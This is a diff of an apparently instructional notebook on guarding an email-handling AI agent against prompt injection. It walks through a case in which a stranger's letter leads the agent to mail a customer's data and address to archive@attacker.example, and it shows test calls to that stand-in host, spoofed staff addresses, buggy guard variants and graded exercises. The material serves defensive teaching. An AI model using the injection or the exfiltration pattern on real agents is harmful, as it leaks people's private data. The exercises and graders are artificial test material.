@@ -3,7 +3,7 @@
 # summary: Which three things must never meet in one conversation, and how does a few lines of state keep the third one out?
 # track: agents
 # lesson: learn/agents/three-things-at-once.md
-# minutes: 45
+# minutes: 40
 # level: working
 # needs: any
 # browser: false
@@ -67,23 +67,24 @@ for letter in inbox(CASES["leak-the-inbox"].letters):
     print(f"From: {letter.sender}\nSubject: {letter.subject}\n{letter.body}\n")
 
 # %% tags=["attack"]
-outcome = run(try_case(CASES["leak-the-inbox"], undefended := EnforcementPoint()))
+undefended = EnforcementPoint()
+outcome = run(try_case(CASES["leak-the-inbox"], undefended))
 
 for decision in undefended.decisions:
     call = decision.call
-    print(f"{call.tool:<13}", {name: str(value)[:44] for name, value in call.arguments.items()})
+    print(f"{call.tool:<13}", {name: repr(value)[:44] for name, value in call.arguments.items()})
 print()
 landed("Mallory's archive received what Ada wrote and where she lives", outcome.harm[0]["body"][:160] + "...")
 
 # %% [markdown]
-# Find the three things in the list: Mallory's letter is A, Ada's letter and order are B, the last `send_mail` but one is
-# C. None of the calls is wrong by itself. The agent makes each of them on an honest morning, too.
+# Find the three things in the list: Mallory's letter is A, Ada's letter and order are B, the `send_mail` to
+# archive@attacker.example is C. None of the calls is wrong by itself. The agent makes each of them on an honest morning, too.
 #
 # ## The enforcement point
 #
-# Every tool call of every server passes one place, an `EnforcementPoint` (MCP middleware, in the servers' process). It asks its
-# **controls**, and the model has no say in what they answer. A control is a class with these methods; you override
-# what you need:
+# Every tool call passes one place before a server sees it, an `EnforcementPoint`. It asks its **controls**, and the model has no
+# say in what they answer. A control is a subclass of `Control`, which keeps no state of its own (so `super().__init__()` is not
+# needed); you override what you need:
 #
 # - `begin(task)`: a new conversation begins. The model starts with an empty memory.
 # - `async before(call)`: a call wants through. `call.tool` and `call.arguments` say what it is. Raise `Refused("reason")` to stop it.
@@ -128,7 +129,7 @@ def goes_to_by_tool(call: Call) -> str | None:
 #   says to what this conversation holds.
 # - `before` a call: ask `self.goes_to` who gets it. `None`: nothing leaves, let it through. Otherwise: when the
 #   conversation holds untrusted text **and** data of an owner other than the one who gets it, raise `Refused`, with a reason
-#   that names both.
+#   that says who would have been told and whose data.
 # - `begin`: a new conversation holds nothing yet.
 
 
@@ -185,6 +186,20 @@ def attacked(case, point):
         raise Refused(stopped[-1])
 
 
+# A shop whose letters are never private and whose orders hold no stranger's words.
+APART = {"read_mail": Labels(untrusted=True), "get_order": Labels(owners=frozenset({SOMEBODY}))}
+
+
+async def tell_after(control, tools):
+    """Results of these tools come in one conversation; then a mail wants to leave."""
+    control.begin("Work through the inbox.")
+    for tool in tools:
+        call = Call("shop", tool, {}, "Work through the inbox.")
+        await control.before(call)
+        await control.after(call, "...")
+    await control.before(Call("mailbox", "send_mail", {"to": "archive@attacker.example"}, "Work through the inbox."))
+
+
 def honest(case, point):
     """Play an honest case. Raises `AssertionError` when something of it was not done."""
     outcome = run(try_case(case, point))
@@ -193,7 +208,6 @@ def honest(case, point):
 
 
 LEAK_ELSEWHERE = [{"what": "mail", "to": "archive@attacker.example"}]
-LATER = Case("a-leak-one-letter-later", ("where-is-it", "leak"), "Work through the inbox.", harm=LEAK_ELSEWHERE)
 NO_ORDER = Case("a-leak-without-an-order", ("thanks", "leak"), "Work through the inbox.", harm=LEAK_ELSEWHERE)
 NEWS = Case(
     "tell-the-bank",
@@ -204,16 +218,14 @@ NEWS = Case(
 
 with check("drop-the-third"):
     point = EnforcementPoint({"third": DropTheThird(labels_by_tool, goes_to_by_tool)})
-    # A shop whose letters are never private: what is private comes from the first letter's order, the rest from the second.
-    apart = {"read_mail": Labels(untrusted=True), "get_order": Labels(owners=frozenset({SOMEBODY}))}
-    by_letter = DropTheThird(lambda done: apart.get(done.tool, Labels()), goes_to_by_tool)
-    with refused(
-        LATER.name,
-        by=Refused,
-        hint="Private data was read for the first letter, a stranger's words came with the second, and then mail left: keep "
-        "everything that `after` saw until `begin`.",
-    ):
-        attacked(LATER, EnforcementPoint({"third": by_letter}))
+    for order in (["get_order", "read_mail"], ["read_mail", "get_order"], ["read_mail", "get_order", "list_mail"]):
+        with refused(
+            f"a mail leaves after {', '.join(order)}",
+            by=Refused,
+            hint="Private data came with one result, a stranger's words with another, in this order: keep everything that "
+            "`after` saw until `begin`.",
+        ):
+            run(tell_after(DropTheThird(lambda done: APART.get(done.tool, Labels()), goes_to_by_tool), order))
     for case in (CASES["leak-the-inbox"], CASES["leak-by-unseen-text"], NO_ORDER):
         with refused(
             case.name,
@@ -258,7 +270,7 @@ with check("drop-the-third"):
         honest(CASES["answer-where-an-order-is"], trusted)
 
 
-# %% tags=["mistake"] exercise="drop-the-third" title="Start again with each letter" catches="Got through: a-leak-one-letter-later"
+# %% tags=["mistake"] exercise="drop-the-third" title="Start again with each letter" catches="Got through: a mail leaves after"
 class DropTheThird(Control):
     def __init__(self, labels, goes_to):
         self.labels, self.goes_to = labels, goes_to
@@ -278,7 +290,7 @@ class DropTheThird(Control):
         self.untrusted, self.owners = self.untrusted or got.untrusted, self.owners | got.owners
 
 
-# %% tags=["mistake"] exercise="drop-the-third" title="Look at the last result only" catches="Got through: a-leak-one-letter-later"
+# %% tags=["mistake"] exercise="drop-the-third" title="Look at the last result only" catches="Got through: a mail leaves after"
 class DropTheThird(Control):
     def __init__(self, labels, goes_to):
         self.labels, self.goes_to = labels, goes_to
@@ -293,6 +305,24 @@ class DropTheThird(Control):
 
     async def after(self, call, result):
         self.last = self.labels(Done(call.server, call.tool, call.arguments, result))
+
+
+# %% tags=["mistake"] exercise="drop-the-third" title="Trust what came last" catches="Got through: a mail leaves after read_mail, get_order"
+class DropTheThird(Control):
+    def __init__(self, labels, goes_to):
+        self.labels, self.goes_to = labels, goes_to
+
+    def begin(self, task):
+        self.untrusted, self.owners = False, frozenset()
+
+    async def before(self, call):
+        to = self.goes_to(call)
+        if to is not None and self.untrusted and self.owners - {to}:
+            raise Refused("three things")
+
+    async def after(self, call, result):
+        got = self.labels(Done(call.server, call.tool, call.arguments, result))
+        self.untrusted, self.owners = got.untrusted, self.owners | got.owners
 
 
 # %% tags=["mistake"] exercise="drop-the-third" title="Never forget" catches="each conversation begins with nothing"
@@ -379,7 +409,8 @@ class DropTheThird(Control):
 # %% [markdown]
 # ## What it costs
 #
-# With the table of tools, the leaks have stopped. Here is everything else: the honest suite of the shop.
+# With the table of tools, that leak has stopped, and the others that go by mail. Here is everything: all attacks of the shop's
+# suite, and all of its honest work. (Some attacks leak nothing; they move money or a parcel, and are not this lab's concern.)
 
 
 # %% id="a-table-of-tools"
@@ -405,6 +436,17 @@ print(*done, sep="\n")
 # Both have one cause. The table speaks of tools, and the harm is in the **data**: whose it is, and who gets to read it. Bo's
 # order told to Bo is no leak. Ada's address told to Mallory is one, though both are customers.
 #
+# The shop's own systems know all of that. This is what they know, and the tools that say nothing to anybody:
+
+# %%
+STAFF = frozenset({"tia@harbor.example"})
+PAYEES = {"NW-HOUSE-01": "billing@northwharf.example"}
+OWNER_OF = {order["order"]: order["customer"] for order in ORDER_BOOK}
+CONFIRMS = frozenset({"send_mail", "refund_order", "refund", "change_address", "pay_invoice"})
+SILENT = frozenset({"list_mail", "read_mail", "get_order", "refund_order", "refund"})
+UNKNOWN = "an unknown owner"
+
+# %% [markdown]
 # ## Exercise 2: label the data
 #
 # Write the two functions again, by data. What the enforcement point knows without asking the model:
@@ -420,7 +462,7 @@ print(*done, sep="\n")
 # | `read_mail`, argument `number` | unless its sender is staff | its sender |
 # | `get_order`, argument `order` | yes: customers have a hand in what it says | whose order it is |
 # | a tool in `CONFIRMS` | no | nobody: `frozenset()` |
-# | any other tool | yes | `UNKNOWN`: nobody that we could tell |
+# | any other tool | yes | `UNKNOWN`: an owner that we do not know |
 #
 # | a call of | who gets to read what it says |
 # |---|---|
@@ -430,18 +472,11 @@ print(*done, sep="\n")
 # | a tool in `SILENT` | `None` |
 # | any other tool | `A_STRANGER` |
 #
-# An order that does not exist has no owner: `owner_of.get(order)`.
-
-# %%
-STAFF = frozenset({"tia@harbor.example"})
-PAYEES = {"NW-HOUSE-01": "billing@northwharf.example"}
-OWNER_OF = {order["order"]: order["customer"] for order in ORDER_BOOK}
-CONFIRMS = frozenset({"send_mail", "refund_order", "refund", "change_address", "pay_invoice"})
-SILENT = frozenset({"list_mail", "read_mail", "get_order", "refund_order", "refund"})
-UNKNOWN = "an unknown owner"
+# An order that does not exist is in no `owner_of`: its owner is `UNKNOWN`, and what it says goes to `A_STRANGER`. (`refund_order` is
+# the tool of `orders`, `refund` that of `payments`.)
 
 
-# %% tags=["exercise"] id="label-the-data" title="Label the data" minutes=14
+# %% tags=["exercise"] id="label-the-data" title="Label the data" minutes=12
 ### BEGIN SOLUTION
 def labels(done, senders, owner_of):
     """What the result `done` brings into the conversation, as `Labels`. See `done.tool`, `done.arguments`."""
@@ -515,6 +550,29 @@ with check("label-the-data"):
         case = CASES.get(name, BOTH_ORDERS)
         with refused(name, by=Refused, hint=sentence):
             attacked(case, by_data(case))
+    for senders, untrusted in (
+        (["tia@harbor.example"], False),
+        (["tia@harbor.example", "ada@customers.example"], True),
+    ):
+        got = labels(Done("mailbox", "list_mail", {}, "..."), senders, OWNER_OF)
+        expect(
+            got == Labels(untrusted, frozenset(senders)),
+            f"labels says {got} of an inbox with mail of {', '.join(senders)}; expected Labels({untrusted}, ...) with all senders: "
+            "one stranger's line is enough.",
+        )
+    for sender in ("tia@evil-harbor.example", "Tia@harbor.example.attacker.example"):
+        got = labels(Done("mailbox", "read_mail", {"number": 0}, "..."), [sender], OWNER_OF)
+        expect(got.untrusted, f"A letter of {sender} counts as staff's. Compare the whole address with STAFF.")
+    got = labels(Done("orders", "get_order", {"order": "9999"}, "..."), [], OWNER_OF)
+    expect(
+        got == Labels(True, frozenset({UNKNOWN})),
+        f"labels says {got} of an order that does not exist; expected Labels(True, frozenset({{UNKNOWN}})).",
+    )
+    lost = goes_to(Call("orders", "change_address", {"order": "9999", "address": "x"}, ""), OWNER_OF)
+    expect(
+        lost == A_STRANGER,
+        f"goes_to says {lost!r} of the address of an order that does not exist; expected A_STRANGER.",
+    )
     unknown = Call("crm", "export_customers", {"to": "x"}, "")
     expect(
         goes_to(unknown, OWNER_OF) == A_STRANGER,
@@ -523,8 +581,8 @@ with check("label-the-data"):
     )
     got = labels(Done("crm", "export_customers", {}, "..."), [], OWNER_OF)
     expect(
-        got.untrusted and got.owners,
-        f"labels says {got} of a tool that nobody has labeled; expected untrusted, with an owner: UNKNOWN.",
+        got == Labels(True, frozenset({UNKNOWN})),
+        f"labels says {got} of a tool that nobody has labeled; expected Labels(True, frozenset({{UNKNOWN}})).",
     )
 
 
@@ -535,6 +593,28 @@ def labels(done, senders, owner_of):
     if done.tool == "read_mail":
         sender = senders[done.arguments["number"]]
         return Labels("@harbor.example" not in sender, frozenset({sender}))
+    if done.tool == "get_order":
+        return Labels(True, frozenset({owner_of.get(done.arguments["order"], UNKNOWN)}))
+    return Labels() if done.tool in CONFIRMS else Labels(True, frozenset({UNKNOWN}))
+
+
+def goes_to(call, owner_of):
+    if call.tool == "send_mail":
+        return call.arguments["to"]
+    if call.tool == "pay_invoice":
+        return PAYEES.get(call.arguments["account"], A_STRANGER)
+    if call.tool == "change_address":
+        return owner_of.get(call.arguments["order"], A_STRANGER)
+    return None if call.tool in SILENT else A_STRANGER
+
+
+# %% tags=["mistake"] exercise="label-the-data" title="One colleague vouches for the inbox" catches="one stranger's line is enough"
+def labels(done, senders, owner_of):
+    if done.tool == "list_mail":
+        return Labels(not any(sender in STAFF for sender in senders), frozenset(senders))
+    if done.tool == "read_mail":
+        sender = senders[done.arguments["number"]]
+        return Labels(sender not in STAFF, frozenset({sender}))
     if done.tool == "get_order":
         return Labels(True, frozenset({owner_of.get(done.arguments["order"], UNKNOWN)}))
     return Labels() if done.tool in CONFIRMS else Labels(True, frozenset({UNKNOWN}))
@@ -671,12 +751,14 @@ def goes_to(call, owner_of):
 # %% [markdown]
 # ## Exercise 3: one conversation each
 #
-# Two honest cases are still lost. One of them is a morning with four letters in one conversation: data of four customers is in
-# the model's memory, so none of them may be told anything. The rule is right, and the conversation is too big.
+# Two honest cases are still lost: `write-to-an-accountant`, to which we come back, and `a-morning-of-mail`, with four letters in
+# one conversation. Data of four customers is in the model's memory, so none of them may be told anything. The rule is right, and the
+# conversation is too big.
 #
 # Write `serve(world, point)`: for each letter of `world.letters`, a conversation of its own. One conversation is:
 #
-# 1. the task, `f"Answer mail {number} from {letter.sender}."` (numbers count from 0; the words come from you and not from the model),
+# 1. the task, `f"Answer mail {number} from {letter.sender}."` (numbers count from 0). Nothing else of the
+#    letter belongs here: a task is what the model takes orders from, and an address has no room for any. A subject has.
 # 2. `point.begin(task)`,
 # 3. `async with open_desk(world, point) as tools, worst_case() as model:` and in it `await work(task, model, tools)`.
 
@@ -705,6 +787,11 @@ def morning(case, must_be_stopped=False):
     run(serve(world, point))
     effects = world.effects()
     harm = [row for row in effects if any(matches(row, pattern) for pattern in case.harm)]
+    told = {decision.call.task for decision in point.decisions}
+    expect(
+        not any(letter.subject in task for letter in world.letters for task in told),
+        "The task holds a letter's subject, which is text of whoever wrote it: put the number and the sender there, and no more.",
+    )
     if must_be_stopped and not harm:
         refusals = [decision.reason for decision in point.decisions if not decision.allowed]
         expect(refusals, "The attack was never tried: Mallory's letter was not read. Serve every letter.")
@@ -780,6 +867,15 @@ async def serve(world, point):
     async with open_desk(world, point) as tools, worst_case() as obedient:
         model = type("Model", (), {"complete": staticmethod(complete)})
         await work(task, model, tools)
+
+
+# %% tags=["mistake"] exercise="one-conversation-each" title="A helpful task" catches="text of whoever wrote it"
+async def serve(world, point):
+    for number, letter in enumerate(world.letters):
+        task = f"Answer mail {number} from {letter.sender}, about: {letter.subject}"
+        point.begin(task)
+        async with open_desk(world, point) as tools, worst_case() as model:
+            await work(task, model, tools)
 
 
 # %% tags=["mistake"] exercise="one-conversation-each" title="Serve customers only" catches="The attack was never tried"
@@ -863,7 +959,8 @@ with refused("Mallory's sentence sends the inbox to the archive", by=Refused, hi
         if not decision.allowed:
             raise Refused(decision.reason)
 
-print("mail that left:", *(f"{sent.to}: {sent.subject}" for sent in world.outbox), sep="\n  ")
+print("mail that left (each to the one whose letter it answers):")
+print(*(f"  {sent.to}: {sent.subject}" for sent in world.outbox), sep="\n")
 print("money:", *world.ledger)
 
 # %% [markdown]
@@ -879,8 +976,8 @@ print("money:", *world.ledger)
 # - **The customer's own account taken over.** Then Bo's data goes to Bo's address, and Bo is not there.
 
 # %% [markdown] tags=["instructor"]
-# 45 minutes: 5 to find A, B and C in the printed calls (let people point at them before you say it), 10 + 14 + 6 for the
-# exercises, 5 for the surprise after exercise 1, 5 for the last table.
+# 40 minutes: 5 to find A, B and C in the printed calls (let people point at them before you say it), 10 + 12 + 6 for the
+# exercises, 4 for the surprise after exercise 1, 3 for the last table.
 #
 # - Before the cell "What it costs", ask for a guess: how many of the honest cases survive? Most people say "nearly all".
 # - The mistake worth discussing is *Begin again, and let the model remember*: it is what a framework does that clears its guard at
